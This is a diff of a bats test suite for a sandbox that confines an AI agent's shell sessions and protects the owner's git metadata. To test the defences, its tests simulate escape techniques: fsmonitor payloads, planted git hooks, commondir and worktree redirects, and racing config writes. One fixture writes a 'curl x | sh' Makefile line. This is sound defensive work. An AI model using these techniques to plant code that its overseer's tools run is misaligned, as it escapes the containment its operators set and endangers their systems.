@@ -1,8 +1,9 @@
 #!/usr/bin/env bats
 # The session namespace (suite 'root'), through the really installed setuid
-# helper and real PAM: the private /tmp and /var/tmp, and the read-only git
-# metadata of the granted repositories.  Accounts start with "asn" + pid and
-# are deleted.
+# helper and real PAM: the private /tmp and /var/tmp, and git: the agent's
+# own git directory in place of each repository's .git, and every attack of
+# issue #12, with the owner's git run as the owner after.  Accounts start
+# with "asn" + pid and are deleted.
 
 bats_require_minimum_version 1.5.0
 
@@ -37,7 +38,9 @@ setup() {
 		skip "$AS_NS_SKIP"
 	fi
 	# A fresh tree of repositories for each test, made by the owner.
-	rm -rf "$(proj)"/*
+	rm -rf "$(proj)"/* "$(proj)"/.[!.]* "/tmp/asn-ran-$$"
+	# And the agent's git directories of the last test's repositories.
+	rm -rf "$(state_dir)/git/$OWNER-agent"
 }
 
 teardown_file() {
@@ -121,145 +124,383 @@ make_repos() {
 	wait "$bg"
 }
 
-@test "--explain and the session log say which protections are active" {
+# meson's localstatedir of the install under test: /var for /usr.
+state_dir() {
+	case "$AS_PREFIX" in
+	/usr | /usr/) echo /var/lib/agent-shell ;;
+	*) echo "$AS_PREFIX/var/lib/agent-shell" ;;
+	esac
+}
+
+# The agent's git directory for the work tree $1 (lib/gitmeta.h).
+agent_gitdir() {
+	find "$(state_dir)/git/$OWNER-agent" -maxdepth 1 -name "$(basename "$1")-*.git" 2>/dev/null
+}
+
+# As the agent in a session in DIR: sh -c CMD, with a git identity.
+agent_sh() {
+	local dir=$1
+	shift
+	as_owner "$OWNER" "$dir" "$SH" -- /bin/sh -c \
+		"export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x; $1"
+}
+
+# The "agent code" of every attack below: it creates this file in the
+# real /tmp when the owner runs it (the session has a /tmp of its own).
+MARK() { echo "/tmp/asn-ran-$$"; }
+PAYLOAD() { echo "touch $(MARK)"; }
+
+@test "--explain says which protections are active" {
 	make_repos
 	as_owner "$OWNER" "$(proj)" "$SH" --explain
 	assert_success
 	assert_line "session: private /tmp and /var/tmp (an empty tmpfs each, discarded when the session ends)"
 	assert_line "session: own PID and IPC namespaces (only the session's processes and IPC objects are visible; every process of the session ends when its command exits)"
-	# repo, lib, the submodule's git dir and the worktree's.
-	assert_line "session: git metadata read-only (.git/config, .git/hooks, submodules, worktrees) in 4 repositories of the read-write grants"
+	# repo and lib; the bare remote.git read-only.
+	assert_line "session: git: 2 repositories of the read-write grants get the agent's own git directory (in $(state_dir)/git/$OWNER-agent), 1 other git directories read-only"
 }
 
-@test "the agent cannot plant hooks or config in the owner's repository" {
+@test "in a session .git is the agent's own git directory; the owner's stays as it was" {
+	make_repos
+	local r="$(proj)/repo" before
+	before=$(cat "$r/.git/config"; ls -la "$r/.git/hooks")
+	agent_sh "$r" "git config core.fsmonitor '$(PAYLOAD)' &&
+		printf '#!/bin/sh\n$(PAYLOAD)\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit && echo OK"
+	assert_success
+	assert_output OK
+	[ "$(cat "$r/.git/config"; ls -la "$r/.git/hooks")" = "$before" ]
+	local a
+	a=$(agent_gitdir "$r")
+	[ -n "$a" ]
+	[ "$(stat -c %U "$a")" = "$OWNER-agent" ]
+	# Not in the agent's home, which keeps mode 0700 and no ACL.
+	[ "$(stat -c %a "$(getent passwd "$OWNER-agent" | cut -d: -f6)")" = 700 ]
+	[ "$(stat -c %U "$(dirname "$a")")" = "$OWNER-agent" ]
+	run getfacl -p "$(dirname "$a")"
+	assert_line "user:$OWNER:r-x"
+	assert_line "other::---"
+	grep -q fsmonitor "$a/config"
+	owner_git -C "$r" commit -q --allow-empty -m "owner commit"
+	owner_git -C "$r" status >/dev/null
+	[ ! -e "$(MARK)" ]
+}
+
+@test "the agent cannot rename or replace the owner's .git, nor a .git file" {
 	make_repos
 	local r="$(proj)/repo"
-	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" create "$r/.git/hooks/post-commit"
-	assert_output EROFS
-	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" write "$r/.git/config"
-	assert_output EROFS
-	as_owner "$OWNER" "$r" "$SH" -- git config core.fsmonitor 'touch /tmp/pwned'
-	assert_failure
-	assert_output --partial 'could not write config file .git/config: Device or resource busy'
-	as_owner "$OWNER" "$r" "$SH" -- git config core.hooksPath /tmp
-	assert_failure
-	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" rename "$r/.git/config" "$r/.git/config.old"
-	assert_output EBUSY
 	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" rename "$r/.git" "$r/.git.old"
 	assert_output EBUSY
-	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" rename "$r/.git/hooks" "$r/.git/hooks.old"
-	assert_output EBUSY
-	grep -q fsmonitor "$r/.git/config" && false
-	[ ! -e "$r/.git/hooks/post-commit" ]
-}
-
-@test "the same holds in a submodule and a linked worktree" {
-	make_repos
-	local r="$(proj)/repo"
-	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" create "$r/.git/modules/sub/hooks/post-checkout"
-	assert_output EROFS
-	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" write "$r/.git/modules/sub/config"
-	assert_output EROFS
-	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" rename "$r/.git/modules/sub/config" "$r/.git/modules/sub/x"
-	assert_output EBUSY
-	# A .git file keeps pointing where the owner set it.
 	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" write "$r/sub/.git"
 	assert_output EROFS
 	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" write "$(proj)/wt/.git"
 	assert_output EROFS
-	as_owner "$OWNER" "$(proj)/wt" "$SH" -- git config core.fsmonitor 'touch /tmp/pwned'
-	assert_failure
-	run grep -c fsmonitor "$r/.git/config" "$r/.git/modules/sub/config"
-	refute_output --partial ':1'
+	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" rename "$(proj)/wt/.git" "$(proj)/wt/x"
+	assert_output EBUSY
 }
 
-@test "afterwards the owner's git commit and status run no agent code" {
-	make_repos
-	local r="$(proj)/repo" marker="/tmp/asn-ran-$$"
-	# Everything the agent might try, in one session.
-	as_owner "$OWNER" "$r" "$SH" -- /bin/sh -c "
-		printf '#!/bin/sh\\ntouch $marker\\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit
-		git config core.fsmonitor 'touch $marker'
-		git config core.hooksPath ../planted
-		git config alias.status '!touch $marker'
-		mv .git/hooks .git/hooks.old; mkdir .git/hooks
-		mv .git .git.old; true"
-	owner_git -C "$r" commit -q --allow-empty -m "owner commit"
-	owner_git -C "$r" status >/dev/null
-	owner_git -C "$(proj)/wt" status >/dev/null
-	[ ! -e "$marker" ]
-	[ -d "$r/.git" ]
-}
-
-@test "the agent's commits, branches, fetches and gc keep working" {
+@test "attack: .git/commondir pointing at an agent-made git dir reaches no owner git" {
 	make_repos
 	local r="$(proj)/repo"
-	as_owner "$OWNER" "$r" "$SH" -- /bin/sh -c '
-		export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x
+	agent_sh "$r" "mkdir -p evil/refs && ln -s $r/.git/objects evil/objects && echo 'ref: refs/heads/master' > evil/HEAD &&
+		printf '[core]\n\tfsmonitor = $(PAYLOAD)\n' > evil/config && echo $r/evil > .git/commondir; echo done"
+	assert_output done
+	[ ! -e "$r/.git/commondir" ]
+	owner_git -C "$r" status >/dev/null
+	[ ! -e "$(MARK)" ]
+}
+
+@test "attack: the owner's git config during a session changes nothing for the agent" {
+	make_repos
+	local r="$(proj)/repo"
+	as_caller "$OWNER" env -C "$r" "$SH" -- /bin/sh -c "
+		end=\$((\$(date +%s) + 4)); while [ \$(date +%s) -lt \$end ]; do
+		printf '[core]\n\tfsmonitor = $(PAYLOAD)\n' >> .git/config 2>/dev/null; sleep 0.1; done" &
+	local bg=$! i
+	sleep 1
+	for i in 1 2 3; do owner_git -C "$r" config user.name "o$i"; sleep 0.5; done
+	wait "$bg"
+	run grep -c fsmonitor "$r/.git/config"
+	assert_output 0
+	owner_git -C "$r" status >/dev/null
+	[ ! -e "$(MARK)" ]
+}
+
+@test "attack: a hard link to a repository made during a session is not writable in the next" {
+	as_caller "$OWNER" env -C "$(proj)" "$SH" -- /bin/sh -c "sleep 2; ln $(proj)/new/.git/config $(proj)/cfglink && echo linked" &
+	local bg=$!
+	sleep 0.5
+	owner_git init -q "$(proj)/new"
+	wait "$bg"
+	[ -e "$(proj)/cfglink" ]
+	as_owner "$OWNER" "$(proj)" "$SH" -- "$PROBE" write "$(proj)/cfglink"
+	assert_output EACCES
+	as_owner "$OWNER" "$(proj)" "$SH" -- "$PROBE" write "$(proj)/new/.git/config"
+	assert_output ok
+	run grep -c . "$(proj)/new/.git/config"
+	[ "$output" -gt 1 ]
+}
+
+# The options of the mount at PATH, as the session sees it.
+session_mount() {
+	as_owner "$OWNER" "$(proj)" "$SH" -- /usr/bin/awk -v p="$1" '$5 == p { print $6 }' /proc/self/mountinfo
+}
+
+@test "attack: a bare repository is read-only twice (no ACL entry, read-only mount); the owner's push runs no hook" {
+	make_repos
+	as_owner "$OWNER" "$(proj)" "$SH" -- "$PROBE" create "$(proj)/remote.git/hooks/post-receive"
+	assert_output EROFS
+	as_owner "$OWNER" "$(proj)" "$SH" -- "$PROBE" write "$(proj)/remote.git/config"
+	assert_output EACCES
+	session_mount "$(proj)/remote.git"
+	assert_output --regexp '^ro,'
+	owner_git -C "$(proj)/repo" push -q "$(proj)/remote.git" HEAD:refs/heads/main
+	[ ! -e "$(MARK)" ]
+}
+
+@test "attack: core.hooksPath inside the work tree is read-only, created empty when missing" {
+	make_repos
+	local r="$(proj)/repo"
+	owner_git -C "$r" config core.hooksPath .husky
+	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" create "$r/.husky/pre-commit"
+	assert_output EROFS
+	[ "$(stat -c %U "$r/.husky")" = "$OWNER" ]
+	install -d -o "$OWNER" -g "$OWNER" "$r/hooks2"
+	owner_git -C "$r" config core.hooksPath "$r/hooks2"
+	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" create "$r/hooks2/pre-commit"
+	assert_output EROFS
+	owner_git -C "$r" commit -q --allow-empty -m "owner commit"
+	[ ! -e "$(MARK)" ]
+}
+
+@test "attack: config.worktree under extensions.worktreeConfig stays the agent's" {
+	make_repos
+	local r="$(proj)/repo"
+	owner_git -C "$r" config core.repositoryformatversion 1
+	owner_git -C "$r" config extensions.worktreeConfig true
+	agent_sh "$r" "printf '[core]\n\tfsmonitor = $(PAYLOAD)\n' > .git/config.worktree && echo OK"
+	assert_output OK
+	[ ! -e "$r/.git/config.worktree" ]
+	owner_git -C "$r" status >/dev/null
+	[ ! -e "$(MARK)" ]
+}
+
+@test "attack: an agent-made repository the owner adopted gets the agent's git dir too" {
+	agent_sh "$(proj)" "git init -q agentrepo && git -C agentrepo commit -q --allow-empty -m a && echo OK"
+	assert_output OK
+	owner_git config --global --add safe.directory "$(proj)/agentrepo"
+	agent_sh "$(proj)/agentrepo" "git config core.fsmonitor '$(PAYLOAD)' && git log --format=%s"
+	assert_output a
+	run grep -c fsmonitor "$(proj)/agentrepo/.git/config"
+	assert_output 0
+	owner_git -C "$(proj)/agentrepo" status >/dev/null
+	[ ! -e "$(MARK)" ]
+	owner_git config --global --unset-all safe.directory
+}
+
+@test "attack: a linked worktree's worktrees/ID/commondir is the agent's copy" {
+	make_repos
+	local r="$(proj)/repo" before
+	before=$(cat "$r/.git/worktrees/wt/commondir")
+	agent_sh "$(proj)/wt" "git status --porcelain && echo $r/evil > $r/.git/worktrees/wt/commondir && echo OK"
+	assert_output OK
+	[ "$(cat "$r/.git/worktrees/wt/commondir")" = "$before" ]
+	owner_git -C "$(proj)/wt" status >/dev/null
+	[ ! -e "$(MARK)" ]
+}
+
+@test "attack: a submodule's modules/NAME/config is the agent's copy" {
+	make_repos
+	local r="$(proj)/repo"
+	# A nested work tree is not in the agent's safe.directory (agent-admin
+	# grant lists the grant's top-level repositories).
+	agent_sh "$r/sub" "git config --global --add safe.directory $r/sub && git status --porcelain && git log --format=%s && git config core.fsmonitor '$(PAYLOAD)' && echo OK"
+	assert_output $'lib\nOK'
+	run grep -c fsmonitor "$r/.git/modules/sub/config"
+	assert_output 0
+	owner_git -C "$r/sub" status >/dev/null
+	[ ! -e "$(MARK)" ]
+}
+
+@test "attack: a config file the owner's [include] path names in the work tree is read-only" {
+	make_repos
+	local r="$(proj)/repo"
+	runuser -u "$OWNER" -- sh -c "echo '[user]' > $r/team.gitconfig && chmod 664 $r/team.gitconfig"
+	owner_git -C "$r" config include.path ../team.gitconfig
+	owner_git -C "$r" config includeIf.onbranch:main.path ../local.gitconfig
+	as_owner "$OWNER" "$r" "$SH" -- "$PROBE" write "$r/team.gitconfig"
+	assert_output EROFS
+	session_mount "$r/local.gitconfig"
+	assert_output --regexp '^ro,'
+	[ "$(stat -c %U "$r/local.gitconfig")" = "$OWNER" ]
+	owner_git -C "$r" status >/dev/null
+	[ ! -e "$(MARK)" ]
+}
+
+@test "the agent's commit, branch, stash, rebase, fetch from a local remote and gc work" {
+	make_repos
+	local r="$(proj)/repo"
+	agent_sh "$r" '
 		echo change > file && git add file && git commit -q -m "agent commit" &&
-		git branch agent-branch && r=$(cd ../remote.git && pwd) && git config --global --add safe.directory "$r" && git fetch -q "$r" main && git gc -q && echo ALL-OK'
+		git branch agent-branch && echo wip >> file && git stash -q && git stash pop -q &&
+		git checkout -q -b topic && git commit -qam topic && git rebase -q agent-branch &&
+		git checkout -q master && rem=$(cd ../remote.git && pwd) && git config --global --add safe.directory "$rem" &&
+		git fetch -q "$rem" main && git gc -q && git log --format=%s -1 topic && echo ALL-OK'
 	assert_success
-	assert_output ALL-OK
+	assert_line ALL-OK
+	assert_line topic
 	run owner_git -C "$r" log --oneline -1 agent-branch
-	assert_output --partial 'agent commit'
-}
-
-@test "a repository the agent creates stays its own; the owner's git refuses it until adopted" {
-	as_owner "$OWNER" "$(proj)" "$SH" -- git init -q "$(proj)/agentrepo"
-	assert_success
-	[ "$(stat -c %U "$(proj)/agentrepo/.git")" = "$OWNER-agent" ]
-	run owner_git -C "$(proj)/agentrepo" status
 	assert_failure
-	assert_output --partial 'dubious ownership'
-	# Not protected (the session says why in its log), so the agent may use it.
-	as_owner "$OWNER" "$(proj)" "$SH" -- git -C "$(proj)/agentrepo" config user.name agent
-	assert_success
 }
 
-@test "bad input: a .git link out of the grant is not followed; the session still starts" {
+@test "the owner fetches the agent's commits through agent-shell --git-remote and takes them" {
+	make_repos
+	local r="$(proj)/repo"
+	agent_sh "$r" 'echo change > file && git add file && git commit -q -m "agent commit" && echo OK'
+	assert_output OK
+	# Not through the helper: as the owner alone (as_owner keeps euid 0 in
+	# the sanitizer build, and git then takes the repository for root's).
+	run runuser -u "$OWNER" -- env -C "$r" -i HOME="/home/$OWNER" PATH=/usr/bin:/bin "$SH" --git-remote
+	assert_success
+	assert_output --partial "$r: remote 'agent' = $(agent_gitdir "$r")"
+	run owner_git -C "$r" fetch -q agent
+	assert_success
+	# The work tree holds the agent's files already: a fast-forward of
+	# the branch and the index only (docs/security-model.md, Git).
+	run owner_git -C "$r" merge-base --is-ancestor HEAD agent/master
+	assert_success
+	run owner_git -C "$r" reset -q agent/master
+	assert_success
+	run owner_git -C "$r" log --format=%s -1
+	assert_output 'agent commit'
+	run owner_git -C "$r" status --porcelain
+	assert_output ''
+	[ ! -e "$(MARK)" ]
+}
+
+@test "an owner commit between sessions is picked up by the next session" {
+	make_repos
+	local r="$(proj)/repo"
+	agent_sh "$r" 'git log --format=%s -1'
+	assert_output 'add sub'
+	owner_git -C "$r" commit -q --allow-empty -m "owner 2"
+	agent_sh "$r" 'git log --format=%s -1 && git status --porcelain --untracked-files=no'
+	assert_output 'owner 2'
+}
+
+@test "when both committed, the agent keeps its branch and sees the owner's at owner/BRANCH" {
+	make_repos
+	local r="$(proj)/repo"
+	agent_sh "$r" 'git commit -q --allow-empty -m a1 && echo OK'
+	assert_output OK
+	owner_git -C "$r" commit -q --allow-empty -m o2
+	agent_sh "$r" 'git log --format=%s -1; git log --format=%s -1 owner/master'
+	assert_output $'a1\no2'
+}
+
+# The review list of the owner.
+review_state() {
+	echo "$(state_dir)/review/$OWNER"
+}
+
+@test "the end of a session lists the auto-run files the agent changed; --review shows them again" {
+	make_repos
+	local r="$(proj)/repo"
+	runuser -u "$OWNER" -- sh -c "printf 'all:\n\ttrue\n' > $r/Makefile && chmod 664 $r/Makefile && echo notes > $r/notes.txt"
+	agent_sh "$r" 'printf "all:\n\tcurl x | sh\n" > Makefile && echo "eval x" > .envrc &&
+		mkdir -p .github/workflows .vscode sub2 && echo "on: push" > .github/workflows/ci.yml &&
+		echo "{}" > .vscode/tasks.json && echo "{}" > sub2/package.json && echo x >> notes.txt && echo done'
+	assert_success
+	assert_line --partial "the agent's session changed files your tools run without asking"
+	assert_line "  $r/Makefile"
+	assert_line "  $r/.envrc"
+	assert_line "  $r/.github/workflows/ci.yml"
+	assert_line "  $r/.vscode/tasks.json"
+	assert_line "  $r/sub2/package.json"
+	refute_line --partial notes.txt
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_success
+	assert_line "files your tools run without asking that the agent's last session changed:"
+	assert_line "  $r/Makefile"
+	assert_line "  $r/.github/workflows/ci.yml"
+	refute_line --partial notes.txt
+	local state
+	state=$(review_state)
+	[ "$(stat -c '%u %a' "$state")" = "0 640" ]
+}
+
+@test "a file the agent backdates (touch -d) is still listed; a session that changes none lists nothing" {
+	runuser -u "$OWNER" -- sh -c "echo x > $(proj)/.envrc && chmod 664 $(proj)/.envrc"
+	agent_sh "$(proj)" 'echo "evil" >> .envrc && touch -d 2001-01-01 .envrc && echo done'
+	assert_line "  $(proj)/.envrc"
+	agent_sh "$(proj)" 'echo x > plain.txt && echo done'
+	assert_output done
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_output "the agent's last session changed none of the files your tools run without asking"
+}
+
+@test "--review refuses a list that root did not write" {
+	local state
+	state=$(review_state)
+	agent_sh "$(proj)" 'true'
+	chown "$OWNER" "$state"
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_failure 1
+	assert_output --partial "not written by root"
+	rm -f "$state"
+	as_owner "$OWNER" "$(proj)" "$SH" --review
+	assert_success
+	assert_output "no agent session of yours has ended on this host yet"
+}
+
+@test "bad input: a .git link out of the grant is read-only; the session still starts" {
 	install -d -o "$OWNER" -g "$OWNER" "$(proj)/linked" "/home/$OWNER/outside.git/hooks"
 	echo "gitdir: /home/$OWNER/outside.git" >"$(proj)/linked/.git"
 	chown -R "$OWNER:" "$(proj)/linked" "/home/$OWNER/outside.git"
-	as_owner "$OWNER" "$(proj)" "$SH" --explain
-	assert_line --partial "not protected: $(proj)/linked/.git: its git dir is outside the grant; not followed"
-	as_owner "$OWNER" "$(proj)" "$SH" -- /bin/true
-	assert_success
+	as_owner "$OWNER" "$(proj)" "$SH" -- "$PROBE" write "$(proj)/linked/.git"
+	assert_output EROFS
 	rm -rf "/home/$OWNER/outside.git"
 }
 
-@test "bad input: a symlinked .git/hooks refuses the session with a clear line" {
-	owner_git init -q "$(proj)/repo"
-	mv "$(proj)/repo/.git/hooks" "$(proj)/repo/hooks-real"
-	ln -s ../hooks-real "$(proj)/repo/.git/hooks"
-	chown -h "$OWNER:" "$(proj)/repo/.git/hooks"
-	as_owner "$OWNER" "$(proj)" "$SH" -- /bin/true
+@test "bad input: a walk that runs out of file descriptors refuses the session with one line" {
+	local d="$(proj)/deep" i
+	for i in $(seq 1 60); do d="$d/d"; done
+	mkdir -p "$d"
+	owner_git init -q "$d/repo"
+	chown -R "$OWNER:" "$(proj)/deep"
+	# bash -p: the sanitizer build's launcher keeps euid 0 only through
+	# a privileged shell (as_caller, common.bash).
+	run as_caller "$OWNER" bash -p -c "ulimit -n 64; cd $(proj) && exec $SH -- /bin/true"
 	assert_failure 1
-	assert_line --partial "$(proj)/repo/.git/hooks is a symbolic link, which a read-only bind mount cannot cover"
+	assert_line --partial 'Too many open files'
 	assert_line --partial 'no session: its git metadata could not be protected'
 }
 
-@test "bad input: a missing .git/hooks is created empty and read-only" {
-	owner_git init -q "$(proj)/repo"
-	rm -rf "$(proj)/repo/.git/hooks"
-	as_owner "$OWNER" "$(proj)" "$SH" -- "$PROBE" create "$(proj)/repo/.git/hooks/x"
-	assert_output EROFS
-	[ "$(stat -c %U "$(proj)/repo/.git/hooks")" = "$OWNER" ]
+@test "bad input: an agent-made tree 130 deep does not block the next session" {
+	agent_sh "$(proj)" 'd=.; for i in $(seq 1 130); do d=$d/a; done; mkdir -p $d && echo OK'
+	assert_line OK
+	# The end-of-session review does not go that deep either, and says so.
+	assert_line "  (the walk stopped early: a tree too large or too deep; more files may have changed)"
+	as_owner "$OWNER" "$(proj)" "$SH" -- /usr/bin/id -un
+	assert_success
+	assert_line "$OWNER-agent"
 }
 
 @test "bad input: thousands of repositories start in bounded time; beyond the limit a clear refusal" {
 	local i
 	for i in $(seq 1 1500); do
-		mkdir -p "$(proj)/many/r$i/.git/hooks"
-		: >"$(proj)/many/r$i/.git/config"
+		mkdir -p "$(proj)/many/r$i/.git/objects" "$(proj)/many/r$i/.git/refs"
 		echo 'ref: refs/heads/main' >"$(proj)/many/r$i/.git/HEAD"
 	done
 	chown -R "$OWNER:" "$(proj)/many"
 	local t0=$SECONDS
 	as_owner "$OWNER" "$(proj)" "$SH" -- "$PROBE" write "$(proj)/many/r1500/.git/config"
-	assert_output EROFS
-	[ $((SECONDS - t0)) -lt 30 ]
+	assert_output ok
+	[ ! -e "$(proj)/many/r1500/.git/config" ]
+	echo "# 1500 repositories: $((SECONDS - t0)) s" >&3
+	[ $((SECONDS - t0)) -lt 60 ]
 	for i in $(seq 1501 4001); do
-		mkdir -p "$(proj)/many/r$i/.git"
+		mkdir -p "$(proj)/many/r$i/.git/objects" "$(proj)/many/r$i/.git/refs"
+		echo 'ref: refs/heads/main' >"$(proj)/many/r$i/.git/HEAD"
 	done
 	chown -R "$OWNER:" "$(proj)/many"
 	as_owner "$OWNER" "$(proj)" "$SH" -- /bin/true
